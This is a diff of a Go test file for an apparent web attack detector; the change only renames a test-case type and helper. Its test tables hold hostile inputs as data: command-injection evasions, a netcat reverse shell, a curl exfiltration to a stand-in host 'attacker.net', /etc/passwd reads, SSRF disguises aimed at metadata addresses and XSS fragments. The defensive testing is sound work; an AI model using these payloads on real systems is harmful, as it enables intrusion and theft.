@@ -23,15 +23,15 @@ func hasRule(sigs []Signal, rule string) bool {
 	return false
 }
 
-// pl2Case is one value judged at paranoia 1 and 2: p1 and p2 name the
+// levelCase is one value judged at paranoia 1 and 2: p1 and p2 name the
 // rule expected at each level ("" for none; "*" for any attack signal).
-type pl2Case struct {
+type levelCase struct {
 	name   string
 	v      event.Value
 	p1, p2 string
 }
 
-func runPL2Cases(t *testing.T, cases []pl2Case) {
+func runLevelCases(t *testing.T, cases []levelCase) {
 	t.Helper()
 	e1, e2 := New(Options{}), New(Options{Paranoia: 2})
 	for _, c := range cases {
@@ -57,7 +57,7 @@ func runPL2Cases(t *testing.T, cases []pl2Case) {
 }
 
 func TestShellEvasions(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		// command names split by expansions that expand to nothing
 		{"empty backticks", q("x", "pi``ng 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
 		{"empty subst", q("x", "pi$()ng 127.0.0.1"), "cmdi-evasion", "cmdi-evasion"},
@@ -79,7 +79,7 @@ func TestShellEvasions(t *testing.T) {
 }
 
 func TestShellVariablesAndFunctions(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		{"var as command", hdr("user-agent", "a=nc&&$a -nlvp 555"), "cmdi-variable", "cmdi-variable"},
 		{"vars spell command", body("exec", `c4=\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11`), "cmdi-variable", "cmdi-variable"},
 		{"chained assignment", body("cmd", "cmd=a=curl&&b=`whoami`&&$a attacker.net/$b"), "*", "*"},
@@ -95,7 +95,7 @@ func TestShellVariablesAndFunctions(t *testing.T) {
 }
 
 func TestSQLiteAndMailCommands(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		{"sqlite shell", q("foo", ";\n.shell nc 10.10.10.1 6666 -e sh\n"), "*", "*"},
 		{"sqlite system quoted", body("code", "1;.\"system whoami\n"), "cmdi-sqlite-shell", "cmdi-sqlite-shell"},
 		{"sqlite sh abbrev", q("s", "1;.sh whoami"), "cmdi-sqlite-shell", "cmdi-sqlite-shell"},
@@ -112,7 +112,7 @@ func TestSQLiteAndMailCommands(t *testing.T) {
 }
 
 func TestGlobbedCommands(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		{"glob binary", q("host", "www.google.com;/bin/ca? /et*/passwd"), "*", "*"},
 		{"glob in braces", q("a", "{/?s?/?i?/c?t,}"), "cmdi-glob", "cmdi-glob"},
 		{"glob both", q("a", "{,/?s?/?i?/c?t,/e??/p??s??,}"), "*", "*"},
@@ -131,7 +131,7 @@ func TestGlobbedCommands(t *testing.T) {
 }
 
 func TestCommandWordsParanoia2(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		// prefixed tools are probes at both levels
 		{"time curl", q("foo", "time curl coreruleset.org"), "cmdi-command", "cmdi-command"},
 		{"time bsdtar", q("foo", "time bsdtar "), "cmdi-command", "cmdi-command"},
@@ -174,7 +174,7 @@ func TestCommandWordsParanoia2(t *testing.T) {
 }
 
 func TestSSRFDisguises(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		{"enclosed digits", q("ssrf", "acap://①②⑦.⓪.⓪.①"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
 		{"enclosed metadata", q("ssrf", "imap://①⑥⑨.②⑤④.①⑥⑨.②⑤④"), "ssrf-metadata", "ssrf-metadata"},
 		{"enclosed letters", q("ssrf", "irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"), "ssrf-ip-obfuscation", "ssrf-ip-obfuscation"},
@@ -209,7 +209,7 @@ func TestSSRFDisguises(t *testing.T) {
 }
 
 func TestCodeShapes(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		{"perl spaced", q("x", "@{    [    system    \"id\"    ]    }"), "perl-interpolation", "perl-interpolation"},
 		{"perl tight", q("x", "@{[system 'id']"), "perl-interpolation", "perl-interpolation"},
 		{"perl email", body("note", "mail me @{team} [soon]"), "", ""},
@@ -228,7 +228,7 @@ func TestCodeShapes(t *testing.T) {
 }
 
 func TestXSSFragments(t *testing.T) {
-	runPL2Cases(t, []pl2Case{
+	runLevelCases(t, []levelCase{
 		{"comment close", q("x", "-->"), "", "xss-comment-close"},
 		{"comment close key", event.Value{Part: event.PartBody, Location: "body.-->", Key: "-->", Text: "-->", IsKey: true, Record: -1}, "", "xss-comment-close"},
 		{"noscript junk", body("var", "<noscript#"), "", "xss-tag"},
@@ -297,7 +297,7 @@ func BenchmarkPL2Hostile(b *testing.B) {
 	}
 }
 
-// FuzzShellShapes drives the shell-shape lexers of pl2_cmd.go (and the
+// FuzzShellShapes drives the shell-shape lexers of shell_evasion.go (and the
 // paranoia-2 checks) through Inspect at both levels, with the fuzzDetector
 // invariants, and calls the lexers directly for their own bounds:
 //
